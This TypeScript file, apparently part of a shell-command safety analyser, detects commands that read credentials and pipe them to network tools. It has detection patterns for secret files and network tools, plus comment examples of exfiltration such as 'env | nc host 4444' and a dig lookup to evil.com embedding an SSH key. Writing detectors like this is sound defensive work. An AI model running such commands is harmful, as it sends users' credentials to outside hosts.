import { emit, type Invocation, type Stdin } from "./context.js";
import { SECRET_FILE } from "./persistence.js";
import type { Word } from "./words.js";

/**
 * Secrets sent to the network on the same line: a stage that reads credentials feeding, through
 * any pipeline, a command that talks to another host (`env | nc host 4444`, `kubectl get secret x
 * -o yaml | curl -d @- …`), or a network command given them in a substitution
 * (`dig $(cat ~/.ssh/id_rsa).evil.com`). Judged on the words bash hands the commands, so quoting
 * and indirection change nothing. What the receiver gets is access, for good.
 */
const SECRET_COMMAND =
  /^(?:env|printenv)$|^(?:export -p|declare -x)$|secretsmanager get-secret-value|^vault (?:kv get|read)\b|^op (?:read|item get)\b|^gh auth token/;

/**
 * The secret reads whose words may come in any order, checked word by word (a regex over the
 * words between them backtracks): `aws ssm get-parameter(s) … --with-decryption`, `kubectl … get …
 * secret(s)`, `gcloud|az … print-access-token|get-access-token|secrets versions access`.
 */
function readsSecretWords(line: string): boolean {
  const words = line.split(" ");
  const first = words[0];
  if (/\bssm get-parameters?\b/.test(line) && words.includes("--with-decryption")) return true;
  if (first === "kubectl") {
    const get = words.indexOf("get");
    return get > 0 && words.slice(get + 1).some((w) => w === "secret" || w === "secrets");
  }
  if (first === "gcloud" || first === "az")
    return (
      words.includes("print-access-token") ||
      words.includes("get-access-token") ||
      line.includes(" secrets versions access")
    );
  return false;
}
const SECRET_TEXT =
  /(?:~|\$HOME|\$\{HOME\}|\/root|\/home\/[^/\s]+)\/\.(?:ssh\/id_|aws\/credentials|kube\/config|netrc|npmrc|pypirc|docker\/config\.json|git-credentials|gnupg|vault-token)|\/etc\/shadow|(?:^|[\s(`|;&])(?:printenv|env)(?:\s*$|\s*[|>)`;&])|secretsmanager\s+get-secret-value|\bget\s+secrets?\b/;
const NETWORK =
  /^(?:curl|wget|nc|ncat|netcat|socat|telnet|dig|nslookup|host|ssh|scp|sftp|ftp|http|https|xh|openssl)$/;

/** Whether a command, as bash will run it, reads credentials. */
export function readsSecrets(program: string, words: Word[]): boolean {
  const line = [program, ...words.slice(1).map((w) => w.value)].join(" ");
  if (
    program === "env" &&
    words.length > 1 &&
    words.slice(1).some((w) => !w.value.includes("=") && !w.value.startsWith("-"))
  )
    return false;
  return (
    SECRET_COMMAND.test(line) ||
    readsSecretWords(line) ||
    words.slice(1).some((w) => SECRET_FILE.test(w.value) || SECRET_TEXT.test(w.value))
  );
}

function unquoted(text: string): string {
  return text.replace(/['"\\]/g, "");
}

/** After a command ran: record a send, and carry the taint of secrets on to what it prints. */
export function followSecrets(inv: Invocation, words: Word[], stdin: Stdin, stdout: Stdin): Stdin {
  const tainted = stdin.kind !== "none" && stdin.secret === true;
  const secret = tainted || readsSecrets(inv.program, words);
  if (NETWORK.test(inv.program)) {
    const substituted = words.some((w) => w.substitutions.some((s) => SECRET_TEXT.test(unquoted(s.text))));
    if (tainted || substituted)
      emit(inv, {
        name: "send secrets",
        effect: "privilege",
        summary: `${inv.program} sends credentials read on the same line to another host`,
        reversibility: "irreversible",
        blastRadius: "account",
        tags: ["privilege-escalation", "exfiltration"],
      });
  }
  // `cat ~/.ssh/id_rsa` prints a file: what it prints is the secret, whatever form the stage has.
  return secret && stdout.kind !== "none" ? { ...stdout, secret: true } : stdout;
}
